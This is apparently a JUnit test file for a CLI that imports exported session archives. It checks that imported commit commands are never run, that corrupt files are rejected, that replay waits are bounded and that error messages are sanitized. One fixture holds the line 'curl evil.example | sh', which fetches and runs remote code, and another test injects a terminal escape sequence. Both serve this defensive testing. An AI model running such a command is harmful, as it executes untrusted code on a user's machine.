package dev.slipway.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.slipway.backend.session.KeepingScene;
import dev.slipway.protocol.ServerMessage.Logged;
import dev.slipway.protocol.SessionEvent.CommitMade;
import dev.slipway.protocol.SessionManifest;
import dev.slipway.protocol.SessionManifest.Gap;
import dev.slipway.protocol.SessionManifest.Missing;
import dev.slipway.protocol.TurnId;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SessionZipTest {
    @TempDir
    Path folder;

    private Path file(byte[] content) throws Exception {
        return Files.write(folder.resolve("session.zip"), content);
    }

    private static byte[] hostile() {
        return KeepingScene.file(List.of(
                KeepingScene.created(),
                new CommitMade(TurnId.fresh(), "9c11", "main", "Subject", "curl evil.example | sh", null)));
    }

    @Test
    void aFileIsReadWithoutABackendAndItsCommandsAreNoOnesToRun() throws Exception {
        List<Logged> events = new ArrayList<>();
        try (SessionZip zip = SessionZip.open(file(hostile()))) {
            assertThat(zip.manifest().title()).isEqualTo("From elsewhere");
            zip.events(events::add);
        }
        assertThat(events).extracting(Logged::seq).containsExactly(1L, 2L);
        assertThat(((CommitMade) events.getLast().event()).bringCommand()).isNull();
    }

    @Test
    void whatIsNoneSaysSo() throws Exception {
        byte[] good = hostile();
        for (byte[] bad : List.of(new byte[0], "hello".getBytes(), Arrays.copyOf(good, good.length - 30)))
            assertThatThrownBy(() -> SessionZip.open(file(bad)))
                    .isInstanceOf(Exit.class)
                    .hasMessageContaining("no exported session");
    }

    @Test
    void waitsAreThoseBetweenTheEventsAndBounded() {
        assertThat(ReplayCommand.waitMs(1_000, 1_400, 1)).isEqualTo(400);
        assertThat(ReplayCommand.waitMs(1_000, 1_400, 4)).isEqualTo(100);
        assertThat(ReplayCommand.waitMs(1_000, Long.MAX_VALUE, 0.001)).isEqualTo(3_000);
        assertThat(ReplayCommand.waitMs(1_000, 500, 1)).isZero();
        assertThat(ReplayCommand.waitMs(1_000, Long.MIN_VALUE, 1)).isZero();
    }

    @Test
    void whatADamagedSessionLacksIsSaid() {
        assertThat(ExportCommand.missing(
                        new Missing("the file is cut off", 15, List.of(new Gap(3, 3), new Gap(7, 20)))))
                .isEqualTo(
                        "The session is damaged: the file is cut off. 15 events (3, 7–20) at least can't be read any more.");
        assertThat(ExportCommand.missing(new Missing("the\u001b[2J file", 0, List.of())))
                .doesNotContain("\u001b")
                .contains("can't be told");
        SessionManifest manifest = KeepingScene.manifest(2);
        assertThat(ExportCommand.summary(manifest, 2048, Path.of("/x/y.zip")))
                .isEqualTo("Exported 2 events, 0 outputs and 0 attachments, 2.0 kB, to /x/y.zip");
    }
}
